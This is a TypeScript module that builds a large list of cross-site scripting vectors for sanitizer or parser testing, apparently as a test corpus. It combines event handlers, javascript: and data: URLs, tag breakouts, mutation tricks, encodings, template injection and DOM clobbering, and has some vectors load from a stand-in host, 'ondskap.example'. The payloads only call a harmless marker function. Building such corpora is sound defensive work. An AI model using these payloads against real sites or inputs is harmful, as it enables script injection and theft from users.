// Attempts to run a script or to call another host by way of a text. Made by combining what browsers do with markup, not collected.

const EVIL_HOST = 'ondskap.example';
/** What a vector does when it succeeds: says its own number. */
const code = (n: number): string => `__ran(${n})`;
type Make = (n: number) => string;
/** Each of the one with each of the other. */
const cross = <A, B>(as: readonly A[], bs: readonly B[], make: (a: A, b: B, n: number) => string): Make[] =>
  as.flatMap((a) => bs.map((b) => (n: number) => make(a, b, n)));

const entities = (text: string): string => [...text].map((c) => `&#x${(c.codePointAt(0) ?? 0).toString(16)};`).join('');
const mixed = (text: string): string => [...text].map((c, i) => (i % 2 ? c.toUpperCase() : c.toLowerCase())).join('');

/** Elements, with what they need beside the handler to fire it by themselves. */
const ELEMENTS =
  'img src=x,image src=x,svg,body,video src=x,video><source src=x,details open,input autofocus,a href=# autofocus tabindex=1,marquee,iframe src=about:blank,object data=x,embed src=x,style,link rel=stylesheet href=x,script src=x,svg><animate attributeName=x dur=1s,svg><image href=x,svg><use href=x,math,p contenteditable autofocus,table background=x,custom-element,input type=image src=x,dialog open,frameset'.split(
    ',',
  );
const HANDLERS =
  'onerror onload onfocus ontoggle onbegin onpageshow onanimationstart onpointerover onclick onbeforetoggle oncontentvisibilityautostatechange'.split(
    ' ',
  );
const SEPARATORS = [' ', '/', '\t', '\n', '\f', '\r\n'];
const VALUES: Make[] = [
  (n) => code(n),
  (n) => `"${code(n)}"`,
  (n) => `\`${code(n)}\``,
  (n) => entities(code(n)),
  (n) => `"__ran&lpar;${n}&rpar;"`,
  (n) => `"setTimeout\`__ran(${n})\`"`,
];
const handlers = ELEMENTS.flatMap((element, e) =>
  cross(HANDLERS, VALUES, (handler, value, n) => {
    const tag = `${n % 2 ? mixed(element) : element}${SEPARATORS[n % SEPARATORS.length]}${n % 3 ? handler : mixed(handler)}=${value(n)}`;
    return `${n % 5 ? '' : BREAKOUTS[(n + e) % BREAKOUTS.length]}<${tag}${n % 7 ? '>' : ' x'}`;
  }),
);

const SCHEMES: Make[] = [
  (n) => `javascript:${code(n)}`,
  (n) => `${mixed('javascript')}:${code(n)}`,
  (n) => `java\tscript:${code(n)}`,
  (n) => `\u0001javascript:${code(n)}`,
  (n) => entities(`javascript:${code(n)}`),
  (n) => `java&Tab;script&colon;${code(n)}`,
  (n) => `data:text/html,<script>parent.${code(n)}</script>`,
  (n) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.${code(n)}'/>`,
  (n) => `//${EVIL_HOST}/${n}`,
  (n) => `http://${EVIL_HOST}/${n}`,
  (n) => `\\\\${EVIL_HOST}\\${n}`,
];
/** Every place of an address in markup, as URL. */
const URL_PLACES = [
  '<a href="URL" ping="URL" target=_blank autofocus>x</a>',
  '<iframe src="URL"></iframe>',
  `<iframe srcdoc="<a href='URL'>x</a>"></iframe>`,
  '<object data="URL"></object>',
  '<form action="URL"><input type=submit autofocus></form>',
  '<button formaction="URL" form=x>x</button>',
  '<base href="URL">',
  '<meta http-equiv=refresh content="0;url=URL">',
  '<svg><a xlink:href="URL"><text y=20>x</text></a></svg>',
  '<svg><a><animate attributeName=href values="URL"/><text y=20>x</text></a></svg>',
  '<svg><use href="URL"/></svg>',
  '<math href="URL">x</math>',
  '<img src="URL">',
  '<img srcset="URL 1x" loading=eager>',
  '<link rel=stylesheet href="URL">',
  '<script src="URL"></script>',
  '<video poster="URL" src="URL"></video>',
  '<table background="URL"><tr><td background="URL">x</table>',
  `<p style="background:url('URL')">x</p>`,
  "<style>@import 'URL';p{background:url(URL)}</style>",
  "<img src='URL",
  '[x](URL)',
  'URL',
];
const at = (place: string, url: string): string => place.replaceAll('URL', () => url);
const urls = cross(URL_PLACES, SCHEMES, (place, scheme, n) => at(place, scheme(n)));

const CORES: Make[] = [
  (n) => `<script>${code(n)}</script>`,
  (n) => `<img src=x onerror=${code(n)}>`,
  (n) => `<svg onload=${code(n)}>`,
  (n) => `<svg><script href="data:text/javascript,${code(n)}"/>`,
  (n) => `<iframe srcdoc="<script>parent.${code(n)}</script>">`,
  (n) => `<details open ontoggle=${code(n)}>`,
  (n) => `<img src=//${EVIL_HOST}/${n}>`,
  (n) => `<style>@import'//${EVIL_HOST}/${n}'</style>`,
];
const coreOf = (i: number, n: number): string => CORES[i % CORES.length]?.(n) ?? '';

/** What ends the element or attribute around a text. */
const BREAKOUTS = [
  ...`" ' "> '> \`> </p> </td></tr></table> </textarea> </title> </style> </script> --> ]]> </noscript> </template> </svg>`.split(' '),
  ...'</math> </select> </iframe> </plaintext> <!-- <!--> <![CDATA[ <? */ "; {{ &quot;&gt; &lt;/p&gt; << <% <! <scr<script>ipt>'.split(' '),
  '<a title="',
  "<p title='",
  '\ufeff',
  '\u202e',
  '<\u0000',
  '< ',
  '</ ',
  '\\u003c/script\\u003e',
];
const breakouts = cross(BREAKOUTS, CORES, (before, core, n) => `${before}${core(n)}`);
const broken = cross(BREAKOUTS, URL_PLACES, (before, place, n) => before + at(place, SCHEMES[n % SCHEMES.length]?.(n) ?? ''));

const FOREIGN =
  'svg,math,svg><foreignObject,svg><desc,svg><title,math><mtext,math><annotation-xml encoding="text/html",math><mtext><table><mglyph'.split(
    ',',
  );
const RAW_TEXT = 'style script xmp iframe noembed noscript textarea title template plaintext select table form p'.split(' ');
const HIDDEN: ((core: string, raw: string) => string)[] = [
  (core, raw) => `<${raw}><!--</${raw}>${core}-->`,
  (core, raw) => `<${raw}><a title="</${raw}>${core}">`,
  (core, raw) => `<${raw}><![CDATA[</${raw}>${core}]]>`,
  (core, raw) => `<p><${raw}></p><${raw}>${core.replaceAll('<', '&lt;')}`,
  (core, raw) => `<form><${raw}></form><form><${raw}>${core}</${raw}>`,
];
/** Markup that means one thing to the cleaner and another when the browser reads it again. */
const mutations = FOREIGN.flatMap((outer, i) =>
  [0, 3, 5].flatMap((shift) => cross(RAW_TEXT, HIDDEN, (raw, hide, n) => `<${outer}>${hide(coreOf(i + shift, n), raw)}`)),
);
/** Deep nesting, which parsers cut off at different depths. */
const nested = cross(['div', 'table><tr><td', 'svg><g', 'math><mi', 'a'], [3, 60, 520], (tag, depth, n) => {
  return `${`<${tag}>`.repeat(depth)}${coreOf(n, n)}`;
});

const ENCODINGS: ((text: string) => string)[] = [
  (t) => t.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (t) => t.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (t) => t.replaceAll('<', '&#x3c').replaceAll('>', '&#x3e'),
  (t) => encodeURIComponent(t),
  (t) => t.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (t) => t.replaceAll('<', '＜').replaceAll('>', '＞'),
  (t) => t.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (t) => t.replaceAll('s', 'ſ').replaceAll('k', 'K'),
  (t) => t.replaceAll('<', '<\u200b'),
  (t) => t.toUpperCase().replaceAll('__RAN', '__ran'),
];
const encoded = cross(CORES, ENCODINGS, (core, encode, n) => encode(core(n)));

const TEMPLATES: Make[] = [
  (n) => `{{constructor.constructor('${code(n)}')()}}`,
  (n) => `\${${code(n)}}`,
  (n) => `<%= ${code(n)} %>`,
  (n) => `<p v-html="'<img src=x onerror=${code(n)}>'">`,
  (n) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${code(n)}>"}}`,
];
/** Names by which a page's own objects could be hidden behind elements. */
const CLOBBERED = '__proto__ document cookie getElementById attributes nodeName parentNode innerHTML root boot location body'.split(' ');
const clobbering = CLOBBERED.flatMap((name): Make[] => [
  (n) => `<form id=${name}><input name=${name}><img name=${name} src=x onerror=${code(n)}></form>`,
  (n) => `<a id=${name}></a><a id=${name} name=x href="javascript:${code(n)}">x</a>`,
]);

/** All of them, each with its own number in it; the same every time. */
export const xssVectors = (): string[] =>
  [handlers, urls, breakouts, broken, mutations, nested, encoded, TEMPLATES, clobbering].flat().map((make, n) => make(n));
